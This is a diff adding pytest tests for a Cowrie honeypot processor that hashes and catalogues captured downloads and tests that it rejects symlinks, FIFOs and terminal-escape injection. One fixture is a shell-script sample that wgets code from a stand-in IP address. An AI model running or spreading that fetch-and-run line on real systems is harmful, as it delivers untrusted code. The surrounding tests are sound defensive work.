@@ -1,0 +1,561 @@
+"""Scanning Cowrie's downloads folder."""
+
+from __future__ import annotations
+
+import datetime as dt
+import hashlib
+import os
+import shutil
+import socket
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from sqlalchemy import Engine, func, insert, select, text, update
+
+from cowrieprocessor.db.engine import write_transaction
+from cowrieprocessor.db.models import FileHash, Files, Job
+from cowrieprocessor.errors import InputNotFound, InputNotReadable
+from cowrieprocessor.loader import captured_file, downloads, scan_rows
+from cowrieprocessor.loader.captured_file import LeftAlone, is_temporary_name, read_captured
+from cowrieprocessor.loader.downloads import artifact_session, scan_downloads
+from cowrieprocessor.loader.worthless import EMPTY_FILE_SHA256, LONE_NEWLINE_SHA256
+
+FILES = Files.__table__
+HASHES = FileHash.__table__
+JOBS = Job.__table__
+
+MTIME = 1_600_000_000
+MTIME_UTC = dt.datetime(2020, 9, 13, 12, 26, 40, tzinfo=dt.UTC)
+LOGGED_AT = dt.datetime(2021, 3, 9, 16, 28, 57, tzinfo=dt.UTC)
+
+
+def put(folder: Path, content: bytes, *, mtime: float = MTIME) -> str:
+    """Put a captured file into the folder and return its hash."""
+    sha256 = hashlib.sha256(content).hexdigest()
+    path = folder / sha256
+    path.write_bytes(content)
+    os.utime(path, (mtime, mtime))
+    return sha256
+
+
+def add_logged(engine: Engine, sha256: str, sessions: list[str]) -> None:
+    """Write what the loader writes for file events of these sessions."""
+    with write_transaction(engine) as connection:
+        connection.execute(
+            insert(HASHES),
+            {
+                "sha256": sha256,
+                "first_seen": LOGGED_AT,
+                "last_seen": LOGGED_AT,
+                "session_count": len(sessions),
+            },
+        )
+        connection.execute(
+            insert(FILES), [{"session_id": s, "shasum": sha256, "first_seen": LOGGED_AT} for s in sessions]
+        )
+
+
+def contents(engine: Engine) -> tuple[list[object], list[object]]:
+    """Return every row of file_hashes and files, times of change included."""
+    with engine.connect() as connection:
+        hashes = connection.execute(select(HASHES).order_by(HASHES.c.sha256)).all()
+        files = connection.execute(select(FILES).order_by(FILES.c.id)).all()
+    return list(hashes), list(files)
+
+
+def hash_row(engine: Engine, sha256: str):
+    """Return the row of one hash, or None."""
+    with engine.connect() as connection:
+        return connection.execute(select(HASHES).where(HASHES.c.sha256 == sha256)).one_or_none()
+
+
+def file_rows(engine: Engine, sha256: str):
+    """Return the rows of `files` with this hash, by session."""
+    with engine.connect() as connection:
+        return connection.execute(
+            select(FILES).where(FILES.c.shasum == sha256).order_by(FILES.c.session_id)
+        ).all()
+
+
+@pytest.fixture
+def folder(tmp_path: Path) -> Path:
+    """An empty downloads folder."""
+    path = tmp_path / "downloads"
+    path.mkdir()
+    return path
+
+
+def test_a_captured_file_gets_hashes_size_and_type(engine: Engine, folder: Path) -> None:
+    """A file that nobody knew is stored with SHA-1, MD5, size, type, and the time of the file."""
+    content = b"#!/bin/sh\nwget http://198.51.100.7/x\n"
+    sha256 = put(folder, content)
+
+    result = scan_downloads(engine, folder)
+
+    row = hash_row(engine, sha256)
+    assert (row.size_bytes, row.md5, row.sha1) == (
+        len(content),
+        hashlib.md5(content).hexdigest(),  # noqa: S324
+        hashlib.sha1(content).hexdigest(),  # noqa: S324
+    )
+    assert (row.mime_type, row.file_type) == (
+        "text/x-shellscript",
+        "POSIX shell script, ASCII text executable",
+    )
+    assert (row.first_seen, row.last_seen, row.session_count) == (MTIME_UTC, MTIME_UTC, 0)
+    assert row.enrichment_status == "pending"
+    assert (result.new, result.artifacts, result.bytes_read, result.entries) == (1, 1, len(content), 1)
+
+
+def test_a_file_no_log_names_becomes_an_artifact_row(engine: Engine, folder: Path) -> None:
+    """A captured file without an event is a row of `files` under the sensor's artifact session."""
+    sha256 = put(folder, b"orphan")
+
+    scan_downloads(engine, folder, sensor="pot-7")
+
+    (row,) = file_rows(engine, sha256)
+    assert (row.session_id, row.origin, row.filename, row.download_url, row.file_size) == (
+        "artifact:pot-7", "artifact", None, None, 6,
+    )  # fmt: skip
+    assert row.first_seen == MTIME_UTC
+    assert row.enrichment_status == "pending"
+    assert row.vt_malicious is False
+
+
+def test_an_artifact_row_copies_the_verdict_already_known(engine: Engine, folder: Path) -> None:
+    """A hash with a verdict from elsewhere gives its artifact row the same verdict."""
+    sha256 = put(folder, b"known elsewhere")
+    with write_transaction(engine) as connection:
+        connection.execute(
+            insert(HASHES),
+            {
+                "sha256": sha256,
+                "first_seen": LOGGED_AT,
+                "last_seen": LOGGED_AT,
+                "vt_malicious": True,
+                "vt_positives": 41,
+                "vt_total": 70,
+                "vt_classification": "trojan",
+                "enrichment_status": "enriched",
+            },
+        )
+
+    scan_downloads(engine, folder)
+
+    (row,) = file_rows(engine, sha256)
+    assert (row.vt_malicious, row.vt_positives, row.vt_total, row.vt_classification) == (
+        True, 41, 70, "trojan",
+    )  # fmt: skip
+    assert row.enrichment_status == "enriched"
+
+
+def test_each_sensor_has_its_own_artifact_row(engine: Engine, folder: Path) -> None:
+    """The same unnamed file found on two sensors is two rows, in whichever order they are scanned."""
+    sha256 = put(folder, b"on both")
+
+    scan_downloads(engine, folder, sensor="b")
+    scan_downloads(engine, folder, sensor="a")
+    scan_downloads(engine, folder, sensor="b")
+
+    assert [row.session_id for row in file_rows(engine, sha256)] == ["artifact:a", "artifact:b"]
+
+
+def test_a_logged_file_gets_its_size_everywhere(engine: Engine, folder: Path) -> None:
+    """Rows of sessions that named the hash get the size, no artifact row appears, and no time moves."""
+    sha256 = put(folder, b"dropper")
+    add_logged(engine, sha256, ["s1", "s2"])
+
+    result = scan_downloads(engine, folder)
+
+    assert [(row.session_id, row.file_size) for row in file_rows(engine, sha256)] == [("s1", 7), ("s2", 7)]
+    row = hash_row(engine, sha256)
+    assert (row.first_seen, row.last_seen, row.session_count) == (LOGGED_AT, LOGGED_AT, 2)
+    assert (result.new, result.completed, result.sizes_set, result.artifacts) == (0, 1, 2, 0)
+
+
+def test_sizes_are_set_in_bounded_transactions(
+    engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A hash of many sessions gets its size over several transactions, each row exactly once."""
+    monkeypatch.setattr(scan_rows, "SIZES_PER_TRANSACTION", 7)
+    one, other = put(folder, b"popular"), put(folder, b"popular too")
+    add_logged(engine, one, [f"s{n:02}" for n in range(21)])
+    add_logged(engine, other, [f"s{n:02}" for n in range(10)])
+
+    result = scan_downloads(engine, folder)
+
+    assert result.sizes_set == 31
+    assert {row.file_size for row in file_rows(engine, one)} == {7}
+    assert {row.file_size for row in file_rows(engine, other)} == {11}
+
+
+def test_a_scan_again_changes_nothing(engine: Engine, folder: Path) -> None:
+    """The same scan twice leaves every row as it was, times of change included, and reads nothing."""
+    sha256 = put(folder, b"one")
+    put(folder, b"two")
+    add_logged(engine, sha256, ["s1"])
+    scan_downloads(engine, folder)
+    before = contents(engine)
+
+    result = scan_downloads(engine, folder)
+
+    assert contents(engine) == before
+    assert (result.unchanged, result.new, result.completed, result.bytes_read) == (2, 0, 0, 0)
+
+
+def test_rehash_reads_again_and_finds_tampering(engine: Engine, folder: Path) -> None:
+    """A known file is read again only on demand; then a change of its content shows."""
+    sha256 = put(folder, b"evidence")
+    scan_downloads(engine, folder)
+    before = contents(engine)
+    (folder / sha256).write_bytes(b"EVIDENCE")
+
+    skipped = scan_downloads(engine, folder)
+    reread = scan_downloads(engine, folder, rehash=True)
+
+    assert (skipped.unchanged, skipped.bytes_read) == (1, 0)
+    assert reread.mismatched == [sha256]
+    assert contents(engine) == before
+
+
+def test_a_later_mtime_does_not_move_first_seen(engine: Engine, folder: Path) -> None:
+    """Copying or touching the folder does not change since when a file is known."""
+    sha256 = put(folder, b"old")
+    scan_downloads(engine, folder)
+    os.utime(folder / sha256, (MTIME - 10_000, MTIME - 10_000))
+
+    scan_downloads(engine, folder, rehash=True)
+
+    assert hash_row(engine, sha256).first_seen == MTIME_UTC
+    assert file_rows(engine, sha256)[0].first_seen == MTIME_UTC
+
+
+def test_a_row_that_lost_its_size_gets_it_back(engine: Engine, folder: Path) -> None:
+    """What a crash or an older loader left without a size is completed without reading the file again."""
+    sha256 = put(folder, b"known")
+    add_logged(engine, sha256, ["s1"])
+    scan_downloads(engine, folder)
+    with write_transaction(engine) as connection:
+        connection.execute(update(FILES).values(file_size=None))
+
+    result = scan_downloads(engine, folder)
+
+    assert (result.sizes_set, result.bytes_read) == (1, 0)
+    assert file_rows(engine, sha256)[0].file_size == 5
+
+
+def test_worthless_files_are_never_to_be_asked_about(engine: Engine, folder: Path) -> None:
+    """The empty file and the lone newline are stored with status skipped."""
+    assert put(folder, b"") == EMPTY_FILE_SHA256
+    assert put(folder, b"\n") == LONE_NEWLINE_SHA256
+
+    scan_downloads(engine, folder)
+
+    for sha256, size in ((EMPTY_FILE_SHA256, 0), (LONE_NEWLINE_SHA256, 1)):
+        row = hash_row(engine, sha256)
+        assert (row.enrichment_status, row.size_bytes) == ("skipped", size)
+        assert file_rows(engine, sha256)[0].enrichment_status == "skipped"
+
+
+def test_content_that_is_not_its_name_is_not_stored(engine: Engine, folder: Path) -> None:
+    """A file whose content has another hash than its name is reported and stored under neither hash."""
+    (folder / ("a" * 64)).write_bytes(b"truncated")
+
+    result = scan_downloads(engine, folder)
+
+    assert result.mismatched == ["a" * 64]
+    assert result.left_alone == {"mismatch": 1}
+    assert contents(engine) == ([], [])
+
+
+def test_nothing_is_followed_and_nothing_blocks(engine: Engine, folder: Path, tmp_path: Path) -> None:
+    """Links, FIFOs, sockets, folders and temporary names are left alone, each counted by its reason."""
+    secret = tmp_path / "passwd"
+    secret.write_bytes(b"root:x:0:0")
+    (folder / hashlib.sha256(b"root:x:0:0").hexdigest()).symlink_to(secret)
+    (folder / ("0" * 64)).symlink_to(tmp_path / "nowhere")
+    (folder / "friendly-name").symlink_to("1" * 64)
+    os.mkfifo(folder / ("1" * 64))
+    (folder / ("2" * 64)).mkdir()
+    (folder / ("2" * 64) / ("3" * 64)).write_bytes(b"inside")
+    (folder / "lost+found").mkdir()
+    listener = socket.socket(socket.AF_UNIX)
+    here = Path.cwd()
+    os.chdir(folder)  # a socket's path has to be short
+    try:
+        listener.bind("4" * 64)
+    finally:
+        os.chdir(here)
+        listener.close()
+    for name in ("redir_0086bc7c", "stdin_00ff", "sftp_1", "scp_2", "gcc_3", "tmpab12", "20160101-120000-x"):
+        (folder / name).write_bytes(b"partial")
+    (folder / "README").write_bytes(b"note")
+    (folder / ("5" * 63)).write_bytes(b"too short")
+
+    result = scan_downloads(engine, folder)
+
+    assert result.left_alone == {
+        "symlink": 3, "fifo": 1, "folder": 2, "socket": 1, "temporary": 7, "other_name": 2,
+    }  # fmt: skip
+    assert result.entries == 16
+    assert contents(engine) == ([], [])
+
+
+@pytest.mark.skipif(os.getuid() != 0, reason="only root can make a device")
+def test_a_device_is_left_alone(engine: Engine, folder: Path) -> None:
+    """A device file under a hash is not opened."""
+    try:
+        os.mknod(folder / ("6" * 64), 0o600 | 0o020000, os.makedev(1, 5))
+    except PermissionError:
+        pytest.skip("this system does not allow making devices")
+
+    assert scan_downloads(engine, folder).left_alone == {"device": 1}
+
+
+def test_a_link_put_there_after_the_look_is_not_followed(folder: Path, tmp_path: Path) -> None:
+    """A file that becomes a link, FIFO or folder between look and opening is left alone."""
+    secret = tmp_path / "secret"
+    secret.write_bytes(b"secret")
+    name = hashlib.sha256(b"secret").hexdigest()
+    (folder / name).symlink_to(secret)
+    os.mkfifo(folder / ("1" * 64))
+    (folder / ("2" * 64)).mkdir()
+    folder_fd = os.open(folder, os.O_RDONLY)
+    try:
+        outcomes = [read_captured(folder_fd, n) for n in (name, "1" * 64, "2" * 64, "3" * 64)]
+    finally:
+        os.close(folder_fd)
+
+    assert outcomes == [LeftAlone.SYMLINK, LeftAlone.FIFO, LeftAlone.FOLDER, LeftAlone.VANISHED]
+
+
+@pytest.mark.parametrize("change", ["grow", "shrink", "rewrite"])
+def test_a_file_that_changes_while_it_is_read_waits(
+    engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch, change: str
+) -> None:
+    """A file that grows, shrinks or is rewritten under the reader is left for the next scan."""
+    monkeypatch.setattr(captured_file, "CHUNK_BYTES", 4)
+    sha256 = put(folder, b"0123456789")
+    path = folder / sha256
+    real_read = os.read
+    calls = []
+
+    def read_and_change(fd: int, length: int) -> bytes:
+        data = real_read(fd, length)
+        if data and not calls:
+            calls.append(fd)
+            if change == "grow":
+                with path.open("ab") as file:
+                    file.write(b"+++++")
+            elif change == "shrink":
+                os.truncate(path, 5)
+            else:
+                path.write_bytes(b"9876543210")
+        return data
+
+    monkeypatch.setattr(captured_file.os, "read", read_and_change)
+
+    result = scan_downloads(engine, folder)
+
+    assert result.left_alone == {"changing": 1}
+    assert contents(engine) == ([], [])
+
+
+def test_upper_case_names_are_the_same_hash(engine: Engine, folder: Path) -> None:
+    """A copy that came through a file system that shouts is one hash, and every entry is accounted for."""
+    sha256 = put(folder, b"once")
+    shutil.copy(folder / sha256, folder / sha256.upper())
+
+    result = scan_downloads(engine, folder)
+
+    assert [row.shasum for row in file_rows(engine, sha256)] == [sha256]
+    assert (result.new, result.unchanged, result.entries) == (1, 1, 2)
+
+
+def test_without_libmagic_types_stay_unknown_until_it_is_there(
+    engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Where the extra is not installed files are stored without types; a later scan with it adds them."""
+    sha256 = put(folder, b"#!/bin/sh\n")
+    with monkeypatch.context() as patch:
+        patch.setitem(sys.modules, "magic", None)
+        without = scan_downloads(engine, folder)
+        again = scan_downloads(engine, folder)
+    assert (without.types_known, hash_row(engine, sha256).file_type, again.bytes_read) == (False, None, 0)
+
+    result = scan_downloads(engine, folder)
+
+    assert (result.types_known, result.completed) == (True, 1)
+    assert hash_row(engine, sha256).mime_type == "text/x-shellscript"
+
+
+def test_types_that_quote_the_file_are_inert(engine: Engine, folder: Path) -> None:
+    """A description that libmagic takes from the file holds no control character and fits its column."""
+    name = b"\x1b]0;owned\x07" + b"A" * 2000
+    sha256 = put(folder, b"\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x03" + name + b"\x00" + b"rest")
+
+    scan_downloads(engine, folder)
+
+    description = hash_row(engine, sha256).file_type
+    assert description.startswith("gzip compressed data")
+    assert description.isprintable()
+    assert len(description) <= 256
+
+
+@pytest.mark.parametrize("seconds", [-1, 4_000_000_000])
+def test_an_impossible_mtime_counts_as_now(engine: Engine, folder: Path, seconds: int) -> None:
+    """A file dated before 1970 or in the future is first seen now, not then."""
+    sha256 = put(folder, b"time traveller")
+    os.utime(folder / sha256, (seconds, seconds))
+    if abs((folder / sha256).stat().st_mtime - seconds) > 1:
+        pytest.skip("this file system does not hold such a time")
+
+    scan_downloads(engine, folder)
+
+    age = dt.datetime.now(dt.UTC) - hash_row(engine, sha256).first_seen
+    assert dt.timedelta(0) <= age < dt.timedelta(minutes=5)
+
+
+def test_folders_larger_than_a_batch_are_walked_through(
+    engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Many files come in several transactions, by number and by bytes, and progress tells of each."""
+    monkeypatch.setattr(downloads, "BATCH_FILES", 10)
+    monkeypatch.setattr(downloads, "BATCH_BYTES", 20)
+    for n in range(35):
+        put(folder, b"%05d" % n)
+    seen: list[tuple[int, int]] = []
+
+    result = scan_downloads(
+        engine, folder, on_progress=lambda so_far, total: seen.append((so_far.entries, total))
+    )
+
+    assert (result.new, result.artifacts, result.bytes_read) == (35, 35, 175)
+    assert len(seen) == 35
+    assert {total for _, total in seen} == {35}
+    with engine.connect() as connection:
+        assert connection.scalar(select(func.count()).select_from(HASHES)) == 35
+
+
+def test_the_job_row_tells_of_the_scan(engine: Engine, folder: Path) -> None:
+    """The table of jobs holds one row `scan` with state, times and counters by reason."""
+    put(folder, b"x")
+    (folder / "README").write_bytes(b"")
+
+    scan_downloads(engine, folder)
+
+    with engine.connect() as connection:
+        row = connection.execute(select(JOBS)).one()
+    assert (row.name, row.state, row.reason) == ("scan", "done", None)
+    assert row.counters["new"] == 1
+    assert row.counters["left_alone_other_name"] == 1
+    assert row.started_at <= row.updated_at <= row.finished_at
+
+
+def test_an_interrupted_scan_says_so_and_goes_on_where_it_stopped(
+    engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """After Ctrl-C what was committed stays, the job says so, and a new scan does the rest."""
+    monkeypatch.setattr(downloads, "BATCH_FILES", 2)
+    for n in range(6):
+        put(folder, b"%d" % n)
+
+    def interrupt(so_far: downloads.ScanResult, total: int) -> None:
+        if so_far.entries > 4:
+            raise KeyboardInterrupt
+
+    with pytest.raises(KeyboardInterrupt):
+        scan_downloads(engine, folder, on_progress=interrupt)
+    with engine.connect() as connection:
+        row = connection.execute(select(JOBS)).one()
+    assert (row.state, row.reason) == ("failed", "interrupted")
+
+    result = scan_downloads(engine, folder)
+
+    assert (result.unchanged, result.new) == (4, 2)
+
+
+def test_a_folder_that_is_not_there_is_said(engine: Engine, tmp_path: Path) -> None:
+    """A missing folder and a path that is no folder are two different errors, and no job starts."""
+    (tmp_path / "file").write_bytes(b"")
+
+    with pytest.raises(InputNotFound, match="no such folder"):
+        scan_downloads(engine, tmp_path / "nowhere")
+    with pytest.raises(InputNotReadable, match="no folder"):
+        scan_downloads(engine, tmp_path / "file")
+    with engine.connect() as connection:
+        assert connection.scalar(select(func.count()).select_from(JOBS)) == 0
+
+
+UNREADABLE_SCRIPT = """
+import os, sys
+folder, uid = sys.argv[1], int(sys.argv[2])
+from cowrieprocessor.loader.captured_file import read_captured
+fd = os.open(folder, os.O_RDONLY)
+if uid:
+    os.setgroups([]); os.setgid(uid); os.setuid(uid)
+print(read_captured(fd, "7" * 64).value)
+"""
+
+
+def test_a_file_without_permission_is_unreadable(folder: Path) -> None:
+    """A file that the permissions refuse is told apart; run as another user where the tests run as root."""
+    path = folder / ("7" * 64)
+    path.write_bytes(b"secret")
+    path.chmod(0)
+    uid = "65534" if os.getuid() == 0 else "0"
+
+    done = subprocess.run(
+        [sys.executable, "-c", UNREADABLE_SCRIPT, str(folder), uid],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+
+    assert done.stdout.strip() == "unreadable"
+
+
+def test_names_that_look_temporary() -> None:
+    """Cowrie's names of unfinished files are known; a hash or a plain name is none of them."""
+    temporary = [
+        "stdin_0a", "redir_0086bc7c3cbc43e58be64663db17ec5f", "sftp_ff", "scp_1", "gcc_2", "tmp", "tmpq8_x",
+        "20160229-235959-12", "20200121131433_aa80bf3fb7ad_0_http___198_18_0_1_w_txt",
+    ]  # fmt: skip
+    other = ["redir_", "redir_xyz", "stdin", "a" * 64, "2016-02-29", "README", ""]
+
+    assert [n for n in temporary if not is_temporary_name(n)] == []
+    assert [n for n in other if is_temporary_name(n)] == []
+
+
+def test_artifact_sessions_fit_their_column_and_stay_apart() -> None:
+    """Long sensor names are cut to 64 characters in all without falling together; controls are escaped."""
+    long_a, long_b = "pot-" + "x" * 80 + "a", "pot-" + "x" * 80 + "b"
+
+    names = [artifact_session(name) for name in ("pot", long_a, long_b, "\x1b[2J", "p" * 55, "\ud800" * 60)]
+
+    assert names[0] == "artifact:pot"
+    assert names[3] == "artifact:\\x1b[2J"
+    assert names[4] == "artifact:" + "p" * 55
+    assert len(set(names)) == len(names)
+    assert all(len(name) <= 64 for name in names)
+    assert all(name.isprintable() for name in names)
+
+
+def test_the_real_downloads_of_the_corpus(engine: Engine, corpus: Path) -> None:
+    """A real folder gives its 17 files, leaves its 18 temporary ones; a second time changes nothing."""
+    folder = corpus / "cowrie-3.1.4" / "downloads"
+
+    result = scan_downloads(engine, folder, sensor="vm")
+    before = contents(engine)
+    again = scan_downloads(engine, folder, sensor="vm")
+
+    assert (result.new, result.artifacts, result.left_alone) == (17, 17, {"temporary": 18})
+    assert (again.unchanged, again.bytes_read) == (17, 0)
+    assert contents(engine) == before
+    with engine.connect() as connection:
+        untyped = connection.scalar(
+            text("SELECT count(*) FROM file_hashes WHERE file_type IS NULL OR mime_type IS NULL")
+        )
+    assert untyped == 0
